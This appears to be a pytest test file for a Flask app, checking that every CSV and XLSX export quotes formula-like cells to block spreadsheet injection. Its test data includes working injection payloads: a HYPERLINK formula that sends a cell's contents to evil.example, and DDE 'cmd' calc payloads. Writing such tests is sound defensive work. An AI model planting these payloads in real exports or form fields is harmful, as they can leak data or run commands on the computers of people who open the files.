"""Every CSV/XLSX export neutralises formula cells the same way (app/spreadsheets.py).

The walk finds the export views in the URL map by what they answer (a CSV or XLSX download) and
fails when one appears that the test does not call, so a new export is covered or noticed.
Each export is called with hostile text planted where members and staff control it, and every
cell of the file is checked.
"""

from __future__ import annotations

import csv
import inspect
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from app.extensions import db
from app.insights.reports import BUILDERS
from app.placements.states import PlacementStatus
from app.privacy.breach import BreachRow
from app.privacy.breach import to_csv as breach_csv
from app.privacy.models import ConsentKind
from app.privacy.services import record_consent
from app.spreadsheets import FORMULA_STARTS, spreadsheet_cell, spreadsheet_row
from app.surveys import services as survey_services
from app.surveys.models import AudienceKind
from tests.conftest import login
from tests.factories.auth import StaffUserFactory
from tests.factories.institutions import InstitutionFactory
from tests.factories.needs import NeedFactory
from tests.factories.placements import PlacementFactory
from tests.factories.profiles import ProfileFactory
from tests.factories.surveys import SurveyFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# The export views, by endpoint (the discovery test below keeps this list complete).
EXPORT_ENDPOINTS = {"insights.export", "placements.export_csv", "surveys.export"}


def assert_cells_safe(cells: list[Any], where: str) -> None:
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(FORMULA_STARTS), f"{where}: unguarded cell {cell!r}"


# --- The helper ----------------------------------------------------------------------------


@pytest.mark.parametrize("value", [*HOSTILE, "=", "+", "-", "@", "\t", "\r", "-1"])
def test_helper_quotes_text_a_spreadsheet_would_evaluate(value: str) -> None:
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["", "Nurse", " =1+1", "'=1+1", "a=b", "Kigali - Gasabo", "\n=1", "ÉCOLE"]
)
def test_helper_leaves_other_text_alone(value: str) -> None:
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize("value", [None, 0, -5, 3.5, -0.25, True])
def test_helper_leaves_numbers_and_empty_cells_alone(value: Any) -> None:
    assert spreadsheet_cell(value) is value


def test_helper_guards_every_cell_of_a_row() -> None:
    assert spreadsheet_row(("=a", 1, None, "b", "@c")) == ["'=a", 1, None, "b", "'@c"]


# --- Every export uses it ------------------------------------------------------------------


def test_every_export_view_is_walked(app: Flask) -> None:
    found = {
        endpoint
        for endpoint, view in app.view_functions.items()
        if any(
            kind in inspect.getsource(inspect.unwrap(view))
            for kind in ("text/csv", "spreadsheetml", "to_csv(", "to_xlsx(")
        )
    }
    assert found == EXPORT_ENDPOINTS, "A new export view: add it to the walk below."


def test_every_module_writing_spreadsheets_uses_the_shared_guard() -> None:
    root = Path(__file__).resolve().parents[2] / "app"
    writers = [
        path
        for path in root.rglob("*.py")
        if any(w in path.read_text() for w in ("csv.writer(", "csv.DictWriter(", "Workbook("))
    ]
    assert writers, "the scan found no export at all"
    unguarded = [
        str(p.relative_to(root)) for p in writers if "spreadsheet_row" not in p.read_text()
    ]
    assert unguarded == []


def _plant_hostile_values(app: Flask) -> dict[str, int]:
    with app.app_context():
        staff = StaffUserFactory()
        institution = InstitutionFactory(name=HOSTILE[1])
        for n, value in enumerate(HOSTILE):
            need = NeedFactory(institution=institution, title=value, sector=value[:40])
            profile = ProfileFactory(
                full_name=value,
                preferred_name=None,
                phone="+250788000111",
                country="=1",  # two letters: an unknown code shown as stored
                sectors=[HOSTILE[0], "@evil"],
            )
            record_consent(profile.user, ConsentKind.STATISTICS, True)
            PlacementFactory(
                need=need,
                profile=profile,
                status=PlacementStatus.ACCEPTED if n % 2 else PlacementStatus.INTERESTED,
            )
        survey = SurveyFactory(audience_kind=AudienceKind.ALL, title=HOSTILE[3])
        short = survey_services.save_question(survey, None, kind="short_text", text=HOSTILE[2])
        choice = survey_services.save_question(
            survey,
            None,
            kind="multiple",
            text="Languages",
            choices_en="English\nFrench",
            allow_other=True,
        )
        survey_services.open_survey(survey)
        db.session.commit()
        return {"survey": survey.id, "short": short.id, "choice": choice.id, "staff": staff.id}


def _answer_survey(app: Flask, client: FlaskClient, ids: dict[str, int]) -> None:
    from app.auth.models import User
    from app.profiles.models import Profile

    with app.app_context():
        emails = [
            db.session.get(User, p.user_id).email  # type: ignore[union-attr]
            for p in db.session.query(Profile).order_by(Profile.id).limit(len(HOSTILE))
        ]
    for email, value in zip(emails, HOSTILE, strict=True):
        login(client, email)
        sent = client.post(
            f"/surveys/{ids['survey']}/answer",
            data={
                f"q{ids['short']}": value,
                f"q{ids['choice']}": ["1", "__other__"],
                f"q{ids['choice']}_other": value,
                "action": "submit",
            },
        )
        assert sent.status_code == 303, sent.get_data(True)
        client.post("/auth/logout")


def _csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_every_export_guards_every_cell(app: Flask, client: FlaskClient) -> None:
    ids = _plant_hostile_values(app)
    _answer_survey(app, client, ids)
    with app.app_context():
        from app.auth.models import User

        staff_email = db.session.get(User, ids["staff"]).email  # type: ignore[union-attr]
    login(client, staff_email)
    downloads: dict[str, list[Any]] = {}
    walked: set[str] = set()

    response = client.get("/placements/staff/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    downloads["placements"] = _csv_cells(response.get_data())
    walked.add("placements.export_csv")

    response = client.get(f"/surveys/staff/{ids['survey']}/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    downloads["surveys.csv"] = _csv_cells(response.get_data())
    response = client.get(f"/surveys/staff/{ids['survey']}/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    downloads["surveys.xlsx"] = [cell.value for row in sheet.iter_rows() for cell in row]
    walked.add("surveys.export")

    for table in BUILDERS:
        response = client.get(f"/insights/export/{table}.csv")
        assert response.status_code == 200 and response.mimetype == "text/csv", table
        downloads[f"insights.{table}"] = _csv_cells(response.get_data())
    walked.add("insights.export")
    assert walked == EXPORT_ENDPOINTS

    for name, cells in downloads.items():
        assert_cells_safe(cells, name)
    # The hostile values really reached the files (guarded), so the checks above are not empty.
    for name in (
        "placements",
        "surveys.csv",
        "surveys.xlsx",
        "insights.members_by_sector",
        "insights.members_by_country",
        "insights.needs_by_sector",
    ):
        guarded = [c for c in downloads[name] if isinstance(c, str) and c[:1] == "'"]
        assert guarded, f"{name}: no hostile value reached the export"
    assert "'+250788000111" in downloads["placements"]  # a revealed phone is text, not a sum
    for value in HOSTILE:  # answers are stored trimmed: "\t=1+1" arrives as "=1+1"
        assert "'" + value.strip() in downloads["surveys.xlsx"]


def test_breach_report_csv_guards_every_cell() -> None:
    moment = datetime(2026, 11, 1, tzinfo=UTC)
    text = breach_csv([BreachRow(7, "audit", value, value, moment, moment, 1) for value in HOSTILE])
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert_cells_safe(cells, "breach report")
    assert "'" + HOSTILE[0] in cells
